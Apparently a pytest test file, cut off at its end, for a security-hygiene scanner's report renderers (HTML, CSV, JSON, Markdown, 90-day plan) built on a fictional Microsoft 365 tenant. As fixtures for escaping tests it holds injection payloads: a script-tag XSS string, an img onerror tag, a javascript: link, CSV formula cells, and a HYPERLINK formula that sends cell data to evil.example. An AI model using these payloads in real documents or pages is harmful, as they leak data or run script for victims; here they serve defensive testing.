"""Report renderers: report.json (+ schema), report.html, findings.csv, summary.md and the 90-day plan."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from pathlib import Path

import jsonschema
import pytest

from hygiene.model import DatasetState, ReasonKind, SourceRun
from hygiene.policy import Attestation, RejectedEntry, RiskException
from hygiene.reports import (
    CSV_COLUMNS,
    FILE_NAMES,
    build_plan,
    render_csv,
    render_html,
    render_json,
    render_markdown,
    report_json_schema,
    write_reports,
)
from hygiene.reports.analysis import first_sentence, licence_waste, risk_sentence, top_risks
from hygiene.reports.csv_report import csv_safe
from hygiene.reports.html import environment
from hygiene.reports.json_report import SCHEMA_PATH, load_committed_schema
from hygiene.reports.markdown import md_escape
from hygiene.reports.plan import effort_hint
from hygiene.results import (
    AreaScore,
    AttestationRecord,
    CheckResult,
    ControlsRegister,
    ExceptionRecord,
    FindingResult,
    ProfileRef,
    ScanReport,
    Score,
    Status,
)

XSS_NAME = "<script>alert('pwned')</script>"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
MS_DOC = "https://learn.microsoft.com/entra/identity/authentication/tutorial-enable-azure-mfa"

T0 = datetime(2025, 3, 14, 9, 0, 0, tzinfo=UTC)
T1 = datetime(2025, 3, 14, 9, 4, 31, tzinfo=UTC)


def _users(prefix: str, count: int, detail: str) -> list[FindingResult]:
    return [
        FindingResult(resource_id=f"{prefix}-{i:05d}", resource_name=f"{prefix}{i:05d}@acme.example", detail=detail)
        for i in range(count)
    ]


def _check(check_id: str, area: str, severity: str, status: Status, **kwargs: object) -> CheckResult:
    defaults: dict[str, object] = {
        "title": check_id.split(".", 1)[1].replace(".", " ").replace("_", " ").capitalize(),
        "platform": "m365",
        "remediation": f"Fix {check_id}. Then re-run the scan.",
    }
    defaults.update(kwargs)
    return CheckResult(check_id=check_id, area=area, severity=severity, status=status, **defaults)  # type: ignore[arg-type]


def make_report(extra_results: list[CheckResult] | None = None) -> ScanReport:
    results = [
        _check(
            "m365.mfa.security_defaults",
            "mfa",
            "critical",
            Status.FAIL,
            title="MFA is enforced for every user",
            reason="Nothing enforces MFA: security defaults are off and no Conditional Access policy requires it",
            assessed=1,
            failing=1,
            findings=[FindingResult(resource_id="tenant", resource_name="Acme Widgets Ltd", detail="No enforcement")],
            remediation="Turn on security defaults, or create a Conditional Access policy that requires MFA "
            "for all users. Exclude one break-glass account.",
        ),
        _check(
            "m365.mfa.registered",
            "mfa",
            "high",
            Status.FAIL,
            title="Users are registered for MFA",
            reason="3 of 41 staff can sign in without a second factor",
            assessed=41,
            failing=3,
            findings=[
                FindingResult(resource_id="u-1", resource_name=XSS_NAME, detail="No MFA method registered"),
                FindingResult(resource_id="u-2", resource_name=FORMULA_NAME, detail="-1 methods"),
                FindingResult(resource_id="u-3", resource_name="Zoë Brontë", detail="@risk: no methods"),
            ],
            remediation="Ask each user to register the Microsoft Authenticator app at https://aka.ms/mfasetup.",
            references=[MS_DOC, "javascript:alert(1)"],
            frameworks={"Cyber Essentials": ["UA-MFA"]},
        ),
        _check(
            "m365.mfa.admins", "mfa", "critical", Status.PASS, title="Admins use phishing-resistant MFA", assessed=3
        ),
        _check(
            "m365.accounts.stale",
            "accounts",
            "medium",
            Status.FAIL,
            title="No stale member accounts",
            assessed=41,
            failing=2,
            accepted=1,
            findings=[
                FindingResult(
                    resource_id="u-10", resource_name="old.timer@acme.example", detail="No sign-in for 212 days"
                ),
                FindingResult(
                    resource_id="u-11",
                    resource_name="seasonal@acme.example",
                    detail="No sign-in for 130 days",
                    accepted_by="EXC-1",
                ),
            ],
        ),
        _check(
            "m365.accounts.guests",
            "accounts",
            "low",
            Status.FAIL,
            title="Guests are reviewed",
            assessed=5,
            failing=1,
            findings=_users("guest", 1, "Guest inactive for 400 days"),
        ),
        _check(
            "m365.accounts.admin_count",
            "accounts",
            "high",
            Status.ACCEPTED,
            title="Between 2 and 4 global admins",
            assessed=1,
            failing=1,
            accepted=1,
            findings=[
                FindingResult(
                    resource_id="tenant",
                    resource_name="Acme Widgets Ltd",
                    detail="6 global admins",
                    accepted_by="EXC-2",
                )
            ],
        ),
        _check(
            "m365.licences.unused",
            "accounts",
            "low",
            Status.FAIL,
            title="No licences on inactive accounts",
            assessed=41,
            failing=3,
            findings=[
                FindingResult(
                    resource_id="u-10",
                    resource_name="old.timer@acme.example",
                    detail="Holds SPB",
                    data={"sku": "SPB", "count": 1, "monthly_cost": 18.1, "currency": "GBP"},
                ),
                FindingResult(
                    resource_id="u-12",
                    resource_name="left@acme.example",
                    detail="Holds SPB",
                    data={"sku": "SPB", "count": 1, "monthly_cost": 18.1, "currency": "GBP"},
                ),
                FindingResult(
                    resource_id="u-13",
                    resource_name="intern@acme.example",
                    detail="Holds FLOW_FREE",
                    data={"sku": "FLOW_FREE", "count": 2, "monthly_cost": None, "currency": "GBP"},
                ),
            ],
        ),
        _check(
            "m365.backup.policies",
            "backup",
            "high",
            Status.FAIL,
            title="Mailboxes and OneDrive are backed up",
            assessed=3,
            failing=1,
            findings=[
                FindingResult(
                    resource_id="oneDriveForBusiness", resource_name="OneDrive", detail="No active backup policy"
                )
            ],
        ),
        _check(
            "m365.backup.restore_tested",
            "backup",
            "high",
            Status.PASS,
            title="A restore was tested this year",
            basis="attested",
            attestation_ids=["ATT-1"],
            assessed=1,
        ),
        _check(
            "m365.backup.enabled",
            "backup",
            "high",
            Status.NOT_ASSESSED,
            title="Microsoft 365 Backup is enabled",
            reason="The tenant has no Microsoft 365 Backup billing set up",
            reason_kind=ReasonKind.LICENCE,
            permissions=["Microsoft 365 Backup (pay-as-you-go billing)"],
        ),
        _check(
            "m365.devices.os_supported",
            "patching",
            "high",
            Status.NOT_ASSESSED,
            title="Devices run a supported OS",
            reason="Reading managed devices was denied (403)",
            reason_kind=ReasonKind.PERMISSION,
            permissions=["DeviceManagementManagedDevices.Read.All"],
        ),
        _check(
            "m365.devices.compliance",
            "patching",
            "medium",
            Status.ERROR,
            title="Compliance policies set a minimum OS",
            reason="ValueError: unexpected platform 'tvOS'",
            reason_kind=ReasonKind.ERROR,
        ),
        _check(
            "m365.devices.stale",
            "patching",
            "high",
            Status.FAIL,
            title="Managed devices check in",
            assessed=30,
            failing=4,
            findings=_users("laptop", 4, "Last sync 64 days ago"),
        ),
    ]
    results.extend(extra_results or [])
    controls = ControlsRegister(
        path="controls/exceptions.yaml",
        exceptions=[
            ExceptionRecord(
                exception=RiskException(
                    id="EXC-1",
                    check="m365.accounts.stale",
                    resources=["seasonal@acme.example"],
                    reason="Seasonal worker returns in May",
                    owner="Ops manager",
                    approved_by="Managing director",
                    expires=date(2025, 6, 30),
                ),
                state="active",
                findings_covered=1,
            ),
            ExceptionRecord(
                exception=RiskException(
                    id="EXC-2",
                    check="m365.accounts.admin_count",
                    reason="MSP needs access",
                    owner="IT lead",
                    approved_by="Managing director",
                    expires=date(2025, 12, 31),
                    compensating_control="PIM with approval",
                ),
                state="active",
                findings_covered=1,
            ),
            ExceptionRecord(
                exception=RiskException(
                    id="EXC-3",
                    check="m365.mfa.registered",
                    resources=["u-9"],
                    reason="Kiosk account",
                    owner="Ops manager",
                    approved_by="Finance director",
                    expires=date(2024, 12, 31),
                ),
                state="expired",
            ),
            ExceptionRecord(
                exception=RiskException(
                    id="EXC-4",
                    check="m365.devices.stale",
                    reason="Spare laptops",
                    owner="IT lead",
                    approved_by="Managing director",
                    expires=date(2025, 9, 1),
                ),
                state="unused",
            ),
        ],
        attestations=[
            AttestationRecord(
                attestation=Attestation(
                    id="ATT-1",
                    check="m365.backup.restore_tested",
                    statement="Restored a mailbox from the third-party backup",
                    date=date(2025, 1, 20),
                    attested_by="IT lead",
                    evidence="TICKET-812",
                ),
                state="active",
                used_by=["m365.backup.restore_tested"],
            )
        ],
        rejected=[
            RejectedEntry(
                kind="exception",
                index=4,
                check="m365.mfa.registered",
                problem="expires: required key is missing",
                entry={"check": "m365.mfa.registered"},
            ),
        ],
    )
    return ScanReport(
        tool_version="0.1.0",
        organisation_id="acme",
        organisation_name="Acme Widgets & Sons Ltd",
        scan_id="20250314T090000Z-acme-7f3a",
        started_at=T0,
        finished_at=T1,
        evaluated_at=T1,
        as_of=date(2025, 3, 14),
        operator="jo.bloggs@msp.example",
        profile=ProfileRef(
            name="uk-ce",
            title="UK Cyber Essentials",
            source="policies/profiles/uk-ce.yaml",
            thresholds={"inactive_days": 90, "licence_prices": {"SPB": 18.1}, "currency": "GBP"},
        ),
        sources={
            "m365": SourceRun(
                platform="m365",
                status="partial",
                started_at=T0,
                finished_at=T1,
                scope={"tenant_id": "0b7e5f0c-1111-2222-3333-444455556666", "tenant_domain": "acme.onmicrosoft.com"},
                requests=57,
                endpoints=["GET /v1.0/users", "GET /v1.0/reports/authenticationMethods/userRegistrationDetails"],
                datasets={
                    "m365.users": DatasetState(available=True, records=41, method="signInActivity"),
                    "m365.devices": DatasetState(
                        available=False, reason_kind=ReasonKind.PERMISSION, reason="403 Forbidden"
                    ),
                },
            )
        },
        score=Score(
            value=62.4,
            grade="D",
            coverage=0.73,
            caps=["A critical check fails (m365.mfa.security_defaults): grade capped at D"],
            areas=[
                AreaScore(area="mfa", score=40.0, coverage=1.0, passed=1, failed=2, not_assessed=0),
                AreaScore(area="accounts", score=70.0, coverage=1.0, passed=0, failed=3, not_assessed=0),
                AreaScore(area="backup", score=50.0, coverage=0.6, passed=1, failed=1, not_assessed=1),
                AreaScore(area="patching", score=None, coverage=0.3, passed=0, failed=1, not_assessed=2),
            ],
        ),
        results=results,
        controls=controls,
        out_of_scope_platforms=["aws"],
    )


@pytest.fixture
def report() -> ScanReport:
    return make_report()


def _result(report: ScanReport, check_id: str) -> CheckResult:
    return next(r for r in report.results if r.check_id == check_id)


# --------------------------------------------------------------------------------------------------
# write_reports
# --------------------------------------------------------------------------------------------------


def test_write_reports_writes_every_format_privately(report: ScanReport, tmp_path: Path) -> None:
    out = tmp_path / "out" / "acme"
    written = write_reports(report, out, ["md", "json", "html", "csv", "ocsf"])

    assert set(written) == {"json", "html", "csv", "md", "ocsf"}
    assert {p.name for p in written.values()} == {
        "report.json",
        "report.html",
        "findings.csv",
        "summary.md",
        "findings.ocsf.jsonl",
    }
    assert sorted(p.name for p in out.iterdir()) == sorted(FILE_NAMES.values())  # no temp files left
    for path in written.values():
        assert path.parent == out
        if os.name == "posix":
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    if os.name == "posix":
        assert stat.S_IMODE(out.stat().st_mode) == 0o700

    parsed = json.loads(written["json"].read_text(encoding="utf-8"))
    assert ScanReport.model_validate(parsed) == report
    rows = list(csv.DictReader(io.StringIO(written["csv"].read_text(encoding="utf-8-sig"))))
    assert len(rows) == sum(len(r.findings) for r in report.results)
    html = written["html"].read_text(encoding="utf-8")
    assert html.startswith("<!DOCTYPE html>") and html.rstrip().endswith("</html>")
    summary = written["md"].read_text(encoding="utf-8")
    assert "`report.html`" in summary and "`findings.csv`" in summary


def test_write_reports_replaces_existing_file_and_tightens_mode(report: ScanReport, tmp_path: Path) -> None:
    old = tmp_path / "report.json"
    old.write_text("stale", encoding="utf-8")
    old.chmod(0o644)
    written = write_reports(report, tmp_path, ["json"])
    assert written == {"json": old}
    assert json.loads(old.read_text(encoding="utf-8"))["scan_id"] == report.scan_id
    if os.name == "posix":
        assert stat.S_IMODE(old.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["report.json"]


def test_write_reports_rejects_unknown_format_before_writing(report: ScanReport, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="pdf"):
        write_reports(report, tmp_path / "out", ["json", "pdf"])
    assert not (tmp_path / "out").exists()


def test_summary_alone_says_no_full_report(report: ScanReport, tmp_path: Path) -> None:
    written = write_reports(report, tmp_path, ["md"])
    text = written["md"].read_text(encoding="utf-8")
    assert "Only this summary was written" in text
    assert "report.html" not in text


# --------------------------------------------------------------------------------------------------
# report.json and its schema
# --------------------------------------------------------------------------------------------------


def test_json_is_stable_sorted_and_utf8(report: ScanReport) -> None:
    text = render_json(report)
    assert text == render_json(make_report())
    assert "Zoë Brontë" in text  # not \u-escaped
    data = json.loads(text)
    assert list(data) == sorted(data)
    assert data == report.model_dump(mode="json")
    assert text.startswith('{\n  "as_of": "2025-03-14"')


def test_committed_schema_matches_models() -> None:
    assert load_committed_schema() == report_json_schema(), (
        f"{SCHEMA_PATH} is out of date: run `python -m hygiene.reports --write-schema`"
    )


def test_schema_is_versioned_draft_2020_12() -> None:
    schema = report_json_schema()
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert schema["$id"].endswith(":1.1")
    assert schema["version"] == "1.1"
    assert "results" in schema["required"]
    jsonschema.Draft202012Validator.check_schema(schema)


def test_rendered_report_validates_against_committed_schema(report: ScanReport) -> None:
    schema = load_committed_schema()
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
    document = json.loads(render_json(report))
    validator.validate(document)

    document["results"][0]["status"] = "maybe"
    del document["scan_id"]
    messages = {e.message for e in validator.iter_errors(document)}
    assert any("'maybe' is not one of" in m for m in messages)
    assert "'scan_id' is a required property" in messages


# --------------------------------------------------------------------------------------------------
# report.html
# --------------------------------------------------------------------------------------------------


VOID = {"meta", "br", "link", "img", "input", "hr", "col", "source", "wbr", "area", "base", "embed", "track"}
BLOCKS = {"p", "div", "li", "td", "th", "dt", "dd", "h1", "h2", "h3", "h4", "summary", "tr", "title", "style"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.problems: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        if tag in BLOCKS:
            self.text.append(" ")
        if not self.stack or self.stack[-1] != tag:
            self.problems.append(f"unexpected </{tag}> with open {self.stack[-3:]}")
            return
        self.stack.pop()

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _parse(html: str) -> _Collector:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector


def test_html_is_well_formed(report: ScanReport) -> None:
    parsed = _parse(render_html(report))
    assert parsed.problems == []
    assert parsed.stack == []


def test_html_is_self_contained(report: ScanReport) -> None:
    html = render_html(report)
    parsed = _parse(html)
    tag_names = {tag for tag, _ in parsed.tags}
    assert not tag_names & {"script", "link", "img", "iframe", "object", "embed"}
    assert "<style>" in html and "<svg" in html
    assert "@import" not in html and "url(" not in html
    for tag, attrs in parsed.tags:
        assert "src" not in attrs, (tag, attrs)
        href = attrs.get("href")
        if href is None:
            continue
        assert tag == "a", (tag, attrs)
        assert href.startswith("#") or href.startswith("https://"), href
    links = {attrs["href"] for tag, attrs in parsed.tags if tag == "a" and attrs.get("href")}
    assert MS_DOC in links
    assert not any(str(h).startswith("javascript") for h in links)
    assert "javascript:alert(1)" in html  # shown as text, not as a link
    # every in-page link points at an id that exists
    ids = {attrs["id"] for _, attrs in parsed.tags if attrs.get("id")}
    for href in links:
        if str(href).startswith("#"):
            assert str(href)[1:] in ids, href


def test_html_escapes_tenant_data(report: ScanReport) -> None:
    html = render_html(report)
    assert XSS_NAME not in html
    assert "&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt;" in html
    assert "Acme Widgets &amp; Sons Ltd" in html
    assert "<script" not in html.lower()


def test_string_templates_autoescape_too() -> None:
    assert environment().from_string("{{ x }}").render(x="<b>") == "&lt;b&gt;"


def test_html_content_for_a_business_owner(report: ScanReport) -> None:
    html = render_html(report)
    text = " ".join("".join(_parse(html).text).split())
    # header and score
    assert "Security hygiene report: Acme Widgets & Sons Ltd" in text
    assert "UK Cyber Essentials" in text and "2025-03-14" in text
    assert "Grade D · score 62.4 out of 100" in text
    assert "over the 73% of checks that could be assessed." in text
    assert "grade capped at D" in text
    # top risks: the critical one first, in plain words
    risks = text.split("Top risks", 1)[1].split("Your 90-day plan", 1)[0]
    assert risks.index("Nothing enforces MFA") < risks.index("3 of 41 staff can sign in without a second factor.")
    # area sections with badges
    for title in ("Multi-factor authentication (MFA)", "Accounts", "Backup", "Patching and device updates"):
        assert f'">{title}</h2>' in html
    assert 'class="badge st-accepted">EXC-1<' in html
    # licence money: 2 x 18.10 a month, FLOW_FREE unpriced
    assert "£36.20 a month (£434.40 a year) on 4 licences, plus 1 product without a price." in text
    # exceptions register
    for needle in (
        "EXC-1",
        "EXC-3",
        "EXC-4",
        "Expired",
        "Unused",
        "Finance director",
        "PIM with approval",
        "ATT-1",
        "Restored a mailbox from the third-party backup",
        "TICKET-812",
    ):
        assert needle in text, needle
    assert "Exception #5 for m365.mfa.registered: expires: required key is missing" in text
    # what we could not check, with the permission that fixes it
    not_checked = text.split("What we could not check", 2)[2].split("Method", 1)[0]
    assert "DeviceManagementManagedDevices.Read.All" in not_checked
    assert "Microsoft 365 Backup (pay-as-you-go billing)" in not_checked
    assert "unexpected platform 'tvOS'" in not_checked
    assert "Not part of this scan: aws." in not_checked
    # method
    method = text.split("Method", 1)[1]
    for needle in (
        "hygiene 0.1.0",
        "20250314T090000Z-acme-7f3a",
        "jo.bloggs@msp.example",
        "2025-03-14 09:00:00 UTC to 2025-03-14 09:04:31 UTC",
        "API requests 57",
        "acme.onmicrosoft.com",
        "GET /v1.0/users",
        "inactive_days 90",
        '{"SPB": 18.1}',
        "403 Forbidden",
    ):
        assert needle in method, needle
    # the incomplete-scan warning (a check errored)
    assert "This scan is incomplete." in text


def test_html_caps_findings_per_check(report: ScanReport) -> None:
    big = _check(
        "m365.accounts.never_used",
        "accounts",
        "medium",
        Status.FAIL,
        title="Accounts never used",
        assessed=500,
        failing=120,
        findings=_users("never", 120, "Never signed in"),
    )
    html = render_html(make_report([big]))
    shown = set(re.findall(r"never\d{5}@acme\.example", html))
    assert len(shown) == 50
    assert "never00049@acme.example" in shown and "never00050@acme.example" not in shown
    assert "… and 70 more in findings.csv" in html
    assert "120 findings (first 50 shown)" in html
    # a check under the cap says nothing about more
    assert html.count("more in findings.csv") == 1


def test_html_cap_shows_open_findings_before_accepted(report: ScanReport) -> None:
    findings = [
        FindingResult(resource_id=f"a{i}", resource_name=f"accepted{i:03d}", detail="x", accepted_by="EXC-9")
        for i in range(60)
    ] + [FindingResult(resource_id="o1", resource_name="openone", detail="x")]
    check = _check(
        "m365.accounts.mixed", "accounts", "low", Status.FAIL, assessed=61, failing=61, accepted=60, findings=findings
    )
    html = render_html(make_report([check]))
    assert "openone" in html
    assert "… and 11 more in findings.csv" in html


def test_html_of_a_50000_user_tenant_stays_small(tmp_path: Path) -> None:
    huge = [
        _check(
            "m365.mfa.registered_all",
            "mfa",
            "high",
            Status.FAIL,
            title="Everyone registered for MFA",
            assessed=50_000,
            failing=50_000,
            findings=_users("user", 50_000, "No MFA method registered"),
        ),
        _check(
            "m365.accounts.stale_all",
            "accounts",
            "medium",
            Status.FAIL,
            title="Stale accounts",
            assessed=50_000,
            failing=20_000,
            findings=_users("stale", 20_000, "No sign-in for 400 days"),
        ),
    ]
    report = make_report(huge)
    written = write_reports(report, tmp_path, ["html", "csv"])
    size = written["html"].stat().st_size
    assert size < 5 * 1024 * 1024
    assert size < 500 * 1024  # in practice far smaller: the cap, not the tenant, sets the size
    html = written["html"].read_text(encoding="utf-8")
    assert "… and 49,950 more in findings.csv" in html
    assert "… and 19,950 more in findings.csv" in html
    with written["csv"].open(encoding="utf-8-sig", newline="") as handle:
        assert sum(1 for _ in csv.reader(handle)) == 1 + 70_000 + sum(len(r.findings) for r in make_report().results)


# --------------------------------------------------------------------------------------------------
# findings.csv
# --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-5 days", "'-5 days"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\ufffdcmd"),  # a lone carriage return is a control character: replaced
        ("x;=1337*2;y", "x;'=1337*2;y"),  # a formula after a separator some reader splits on
        ("a, -b|@c\t+d", "a, '-b|'@c\t'+d"),
        ("esc\x1b[2Jbell\x07", "esc\ufffd[2Jbell\ufffd"),
        ("alice@acme.example", "alice@acme.example"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_csv_safe(cell: str | None, expected: str) -> None:
    assert csv_safe(cell) == expected


def test_csv_rows_columns_and_injection_guard(report: ScanReport) -> None:
    text = render_csv(report)
    assert "\r\n" in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert (
        tuple(rows[0])
        == CSV_COLUMNS
        == (
            "scan_id",
            "organisation_id",
            "check_id",
            "title",
            "area",
            "platform",
            "severity",
            "status",
            "resource_id",
            "resource_name",
            "detail",
            "accepted_by",
            "remediation",
        )
    )
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert len(records) == sum(len(r.findings) for r in report.results)

    by_resource = {(r["check_id"], r["resource_id"]): r for r in records}
    formula = by_resource[("m365.mfa.registered", "u-2")]
    assert formula["resource_name"] == "'" + FORMULA_NAME
    assert formula["detail"] == "'-1 methods"
    assert by_resource[("m365.mfa.registered", "u-3")]["detail"] == "'@risk: no methods"
    assert by_resource[("m365.mfa.registered", "u-3")]["resource_name"] == "Zoë Brontë"
    assert by_resource[("m365.mfa.registered", "u-1")]["resource_name"] == XSS_NAME
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for rec in records for cell in rec.values())

    accepted = by_resource[("m365.accounts.stale", "u-11")]
    assert accepted["status"] == "accepted" and accepted["accepted_by"] == "EXC-1"
    assert by_resource[("m365.accounts.stale", "u-10")]["status"] == "fail"
    assert formula["scan_id"] == report.scan_id and formula["organisation_id"] == "acme"
    assert formula["severity"] == "high" and formula["area"] == "mfa" and formula["platform"] == "m365"
    assert formula["remediation"].startswith("Ask each user to register")


def test_csv_file_has_bom_for_spreadsheets(report: ScanReport, tmp_path: Path) -> None:
    path = write_reports(report, tmp_path, ["csv"])["csv"]
    assert path.read_bytes().startswith(b"\xef\xbb\xbfscan_id,")


# --------------------------------------------------------------------------------------------------
# the 90-day plan
# --------------------------------------------------------------------------------------------------


def test_plan_buckets(report: ScanReport) -> None:
    before = report.model_dump()
    plan = build_plan(report.results)
    assert report.model_dump() == before  # pure: input untouched
    assert plan == build_plan(make_report().results)
    assert [b.title for b in plan] == ["Fix now", "Within 30 days", "Within 90 days"]
    now, month, quarter = ([i.check_id for i in b.items] for b in plan)

    assert now == ["m365.mfa.security_defaults", "m365.mfa.registered", "m365.backup.policies"]
    assert month == ["m365.devices.stale", "m365.accounts.stale"]
    assert quarter == [
        "m365.licences.unused",
        "m365.accounts.guests",
        "m365.backup.enabled",
        "m365.devices.os_supported",
        "m365.devices.compliance",
    ]
    everything = set(now) | set(month) | set(quarter)
    assert "m365.accounts.admin_count" not in everything  # accepted
    assert "m365.mfa.admins" not in everything and "m365.backup.restore_tested" not in everything  # pass


def test_plan_items_say_what_to_do(report: ScanReport) -> None:
    items = {i.check_id: i for b in build_plan(report.results) for i in b.items}
    defaults = items["m365.mfa.security_defaults"]
    assert defaults.action == (
        "Turn on security defaults, or create a Conditional Access policy that requires MFA for all users."
    )
    assert defaults.resources == 1 and defaults.effort == "minutes: one setting or account"
    assert items["m365.mfa.registered"].resources == 3
    assert items["m365.mfa.registered"].effort == "hours: per-user follow-up"
    assert items["m365.mfa.registered"].action.endswith("https://aka.ms/mfasetup.")
    assert items["m365.accounts.stale"].resources == 1  # the accepted finding is not counted
    assert items["m365.devices.stale"].effort == "days: device upgrades"
    permission = items["m365.devices.os_supported"]
    assert permission.action == (
        "Grant DeviceManagementManagedDevices.Read.All to the scanning app (read-only), then re-run the scan."
    )
    assert permission.resources == 0 and permission.effort == "minutes: grant a permission"
    licence = items["m365.backup.enabled"]
    assert "Microsoft 365 Backup (pay-as-you-go billing)" in licence.action and "licence" in licence.action
    assert licence.effort == "days: licence decision"
    assert items["m365.devices.compliance"].effort == "minutes: re-run the scan"


def test_plan_puts_high_outside_mfa_and_backup_in_30_days() -> None:
    results = [
        _check("m365.accounts.x", "accounts", "high", Status.FAIL, failing=1),
        _check("m365.backup.x", "backup", "high", Status.FAIL, failing=1),
        _check("m365.patching.x", "patching", "critical", Status.FAIL, failing=1),
        _check("m365.mfa.x", "mfa", "medium", Status.FAIL, failing=1),
        _check("m365.mfa.y", "mfa", "low", Status.ACCEPTED, failing=1, accepted=1),
    ]
    now, month, quarter = build_plan(results)
    assert [i.check_id for i in now.items] == ["m365.patching.x", "m365.backup.x"]
    assert [i.check_id for i in month.items] == ["m365.accounts.x", "m365.mfa.x"]
    assert quarter.items == ()


def test_plan_counts_open_resources_from_counters_when_no_findings_listed() -> None:
    result = _check("m365.mfa.x", "mfa", "critical", Status.FAIL, assessed=10, failing=4, accepted=1)
    (item,) = build_plan([result])[0].items
    assert item.resources == 3 and item.effort == "hours: per-user follow-up"


def test_empty_report_renders_every_format(tmp_path: Path) -> None:
    report = make_report()
    report.results = []
    report.sources = {}
    report.controls = ControlsRegister()
    report.score = Score(value=0.0, grade="-", coverage=0.0, caps=["nothing could be assessed"])
    report.out_of_scope_platforms = []
    written = write_reports(report, tmp_path, ["json", "html", "csv", "md"])
    html = written["html"].read_text(encoding="utf-8")
    assert "No check failed." in html and "No risk exceptions." in html and "Every enabled check was assessed." in html
    assert _parse(html).problems == []
    assert written["csv"].read_bytes() == b"\xef\xbb\xbf" + ",".join(CSV_COLUMNS).encode() + b"\r\n"
    assert "No failing checks." in written["md"].read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("area", "count", "expected"),
    [
        ("mfa", 1, "minutes: one setting or account"),
        ("mfa", 12, "hours: per-user follow-up"),
        ("mfa", 500, "days: staged roll-out with user support"),
        ("accounts", 3, "minutes: review a few accounts"),
        ("accounts", 40, "hours: per-user follow-up"),
        ("patching", 2, "hours: update a few devices"),
        ("patching", 80, "days: device upgrades"),
        ("backup", 1, "minutes: one setting"),
    ],
)
def test_effort_hint(area: str, count: int, expected: str) -> None:
    assert effort_hint(area, count) == expected


def test_first_sentence() -> None:
    assert first_sentence("Disable the account. Then remove its licences.") == "Disable the account."
    assert first_sentence("Update to v1.2.3 now") == "Update to v1.2.3 now."
    assert first_sentence("See e.g. the portal. Next") == "See e.g. the portal."


# --------------------------------------------------------------------------------------------------
# shared analysis
# --------------------------------------------------------------------------------------------------


def test_top_risks_order_and_sentences(report: ScanReport) -> None:
    risks = top_risks(report.results)
    assert [r.check_id for r in risks] == [
        "m365.mfa.security_defaults",
        "m365.mfa.registered",
        "m365.backup.policies",
        "m365.devices.stale",
        "m365.accounts.stale",
    ]
    assert risk_sentence(_result(report, "m365.mfa.registered")) == "3 of 41 staff can sign in without a second factor."
    assert risk_sentence(_result(report, "m365.devices.stale")) == "4 of 30 devices affected."
    counters_only = _check("m365.mfa.z", "mfa", "high", Status.FAIL, assessed=10, failing=4, accepted=1)
    assert risk_sentence(counters_only) == "3 of 10 accounts affected."


def test_licence_waste_sums_per_sku_and_currency(report: ScanReport) -> None:
    waste = licence_waste(report.results)
    assert [(s.sku, s.licences, s.monthly_cost) for s in waste.skus] == [
        ("SPB", 2, pytest.approx(36.2)),
        ("FLOW_FREE", 2, None),
    ]
    (total,) = waste.totals
    assert total.currency == "GBP" and total.licences == 4
    assert total.monthly_cost == pytest.approx(36.2) and total.yearly_cost == pytest.approx(434.4)
    assert total.unpriced_skus == ("FLOW_FREE",)
    usd = _check(
        "gws.licences.unused",
        "accounts",
        "low",
        Status.FAIL,
        failing=1,
        findings=[
            FindingResult(
                resource_id="x",
                resource_name="x",
                detail="x",
                data={"sku": "Business Starter", "count": 3, "monthly_cost": 21.0, "currency": "USD"},
            )
        ],
    )
    assert [t.currency for t in licence_waste([*report.results, usd]).totals] == ["GBP", "USD"]
    assert not licence_waste([_result(report, "m365.mfa.admins")])


# --------------------------------------------------------------------------------------------------
# summary.md
# --------------------------------------------------------------------------------------------------


def test_markdown_summary(report: ScanReport) -> None:
    text = render_markdown(report)
    assert text.startswith("# Security hygiene summary: Acme Widgets & Sons Ltd\n")
    assert "**Score 62.4/100, grade D.** 73% of checks could be assessed." in text
    assert "Checks: 2 pass, 7 fail, 1 risk accepted, 2 not assessed, 1 error." in text
    assert "2. **HIGH** Users are registered for MFA: 3 of 41 staff can sign in without a second factor." in text
    fix_now = text.split("## Fix now", 1)[1].split("##", 1)[0]
    assert "Turn on security defaults" in fix_now and "Mailboxes and OneDrive are backed up" in fix_now
    assert "No stale member accounts" not in fix_now
    not_assessed = text.split("## Not assessed", 1)[1].split("##", 1)[0]
    assert "DeviceManagementManagedDevices.Read.All" in not_assessed
    assert "Compliance policies set a minimum OS (Error" in not_assessed
    assert "`report.html`" in text
    # short, and no personal data
    assert len(text.splitlines()) < 60
    assert "Zoë" not in text and "old.timer" not in text and "<script" not in text


def test_markdown_escapes_markup() -> None:
    report = make_report()
    report.organisation_name = "Evil <img src=x onerror=alert(1)> [link](http://x)"
    text = render_markdown(report)
    assert not re.search(r"(?<!\\)[<\[\]]", text.split("\n", 1)[0])  # every bracket escaped
    assert r"\<img src=x onerror=alert(1)> \[link\](http://x)" in text


@pytest.mark.parametrize(
    ("raw", "escaped"),
    [
        ("Entra admin center > Protection", "Entra admin center > Protection"),
        ("Authorization_RequestDenied", "Authorization_RequestDenied"),
